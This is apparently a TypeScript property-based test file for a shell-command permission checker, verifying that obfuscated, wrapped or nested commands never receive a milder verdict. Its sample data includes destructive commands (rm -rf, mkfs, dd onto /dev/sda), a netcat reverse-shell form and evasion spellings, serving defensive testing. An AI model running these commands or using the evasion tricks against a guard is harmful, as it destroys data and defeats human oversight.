import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { covers } from '../cover/covers.ts'
import { suggestPrefix } from '../cover/suggest-prefix.ts'
import { world } from '../testing/world.ts'
import { analyseCommand } from './analyse-command.ts'
import { judgeShell, type Verdict } from './judge-shell.ts'

const severity: Record<Verdict, number> = { allow: 0, ask: 1, deny: 2 }

const commands = [
  'ls',
  'cat a.txt',
  'git status',
  'git log -3',
  'echo hi',
  'id',
  'npm test',
  'git push',
  'rm a',
  'curl https://x.example',
  'rm -rf x',
  'shutdown now',
  'mkfs.ext4 /dev/sda',
  'dd if=a of=/dev/sda',
  'reboot',
  'nc -e sh h 1',
  'python3 a.py',
  'sort -o b a',
]

/** Ways to spell the command word. */
const spellings: readonly ((command: string) => string)[] = [
  (command) => command,
  (command) => `\\${command}`,
  (command) => `${command.slice(0, 1)}""${command.slice(1)}`,
  (command) => `"${command.slice(0, 1)}"${command.slice(1)}`,
  (command) => `${command.slice(0, 1)}\\${command.slice(1)}`,
  (command) => `2>/dev/null ${command}`,
  (command) => `$"${command.slice(0, 2)}"${command.slice(2)}`,
]

/** Ways to start a command that are themselves commands. */
const launchers: readonly ((command: string) => string)[] = [
  (command) => `nice ${command}`,
  (command) => `timeout 5 ${command}`,
  (command) => `env ${command}`,
  (command) => `nohup ${command}`,
  (command) => `sudo ${command}`,
  (command) => `command ${command}`,
  (command) => `xargs ${command}`,
]

/** Ways to put a command into a larger text. */
const structures: readonly ((command: string) => string)[] = [
  (command) => `( ${command} )`,
  (command) => `{ ${command}; }`,
  (command) => `true; ${command}`,
  (command) => `true && ${command}`,
  (command) => `true | { ${command}; }`,
  (command) => `true; ! ${command}`,
  (command) => `time ${command}`,
  (command) => `if true; then ${command}; fi`,
  (command) => `for i in 1 2; do ${command}; done`,
  (command) => `while true; do ${command}; break; done`,
  (command) => `case x in x) ${command};; esac`,
  (command) => `f() { ${command}; }; f`,
  (command) => `echo "$( ${command} )"`,
  (command) => `cat <(${command})`,
  (command) => `true\n${command}`,
]

/** Ways to hand a command line to another shell. */
const scripts: readonly ((command: string) => string)[] = [
  (command) => command,
  (command) => `sh -c '${command}'`,
  (command) => `bash -lc '${command}'`,
  (command) => `eval '${command}'`,
  (command) => `trap '${command}' EXIT`,
  (command) => `bash <<'E'\n${command}\nE`,
  (command) => `bash <<< '${command}'`,
  (command) => `find . -exec sh -c '${command}' \\;`,
]

const rules = ['git log', 'npm test', 'git push', 'rm', 'curl', 'python3', 'sort']

describe('judgeShell, whatever the line', () => {
  it('never becomes milder when a command is quoted, escaped, wrapped, grouped or looped', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...commands),
        fc.constantFrom(...spellings),
        fc.array(fc.constantFrom(...launchers), { maxLength: 2 }),
        fc.array(fc.constantFrom(...structures), { maxLength: 3 }),
        fc.constantFrom(...scripts),
        (command, spell, start, place, hand) => {
          const inner = [...start, ...place].reduce((line, change) => change(line), spell(command))
          const options = { ...world, allow: rules }
          const plain = judgeShell(command, options).verdict
          const line = hand(inner)
          expect(severity[judgeShell(line, options).verdict], line).toBeGreaterThanOrEqual(severity[plain])
        },
      ),
      { numRuns: 1_000 },
    )
  })

  it('never throws, and never lets unreadable text run', () => {
    const pieces = fc.constantFrom(
      '$(',
      '${',
      '`',
      '"',
      "'",
      '<<',
      'E\n',
      '|',
      '&&',
      ';',
      '(',
      ')',
      '{',
      '}',
      'rm',
      '-rf',
      ' ',
      '\n',
      '\0',
      '\r',
      '\u202e',
      'if',
      'then',
      'fi',
      'do',
      'done',
      '=',
      '[[',
      '((',
      '\\',
      '$IFS',
      '{a,b}',
      '*',
      '>',
      '~',
      'sh -c',
      'eval',
      'xargs',
    )
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: 'binary', maxLength: 80 }),
          fc.array(pieces, { maxLength: 30 }).map((list) => list.join('')),
        ),
        (text) => {
          const { verdict } = judgeShell(text, world)
          const analysis = analyseCommand(text, world)
          expect(['allow', 'ask', 'deny']).toContain(verdict)
          if (analysis.hazards.length > 0) expect(verdict).not.toBe('allow')
        },
      ),
      { numRuns: 2_000 },
    )
  })

  it('suggests a prefix that covers the very command, and never a shell, interpreter or launcher alone', () => {
    const lines = [
      ...commands,
      'npm run build -- --prod',
      'npx tsc -p .',
      'python3 scripts/a.py',
      'bash -c ls',
      'env ls',
      'git commit -m "a b"',
      'docker compose up -d',
      'kubectl get pods',
    ]
    for (const line of lines) {
      for (const command of analyseCommand(line, world).commands) {
        const prefix = suggestPrefix(command)
        if (prefix === undefined) continue
        expect(covers(prefix, command), `${prefix} for ${line}`).toBe(true)
        expect(prefix).not.toMatch(/^(?:bash|sh|zsh|python3?|node|perl|ruby|sudo|env|xargs|nice|timeout|npx)$/)
      }
    }
  })

  it('keeps a command covered when only its plain data changes', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme-ascii', maxLength: 30 }), (data) => {
        const quoted = `'${data.replaceAll("'", `'\\''`)}'`
        for (const [rule, line] of [
          ['git commit', `git commit -m ${quoted}`],
          ['echo', `echo ${quoted}`],
          ['pytest', `pytest -k ${quoted}`],
          ['grep', `grep -e ${quoted} a`],
          ['gh issue create', `gh issue create --title ${quoted}`],
        ] as const) {
          expect(judgeShell(line, { ...world, allow: [rule] }).verdict, line).toBe('allow')
        }
      }),
    )
  })
})
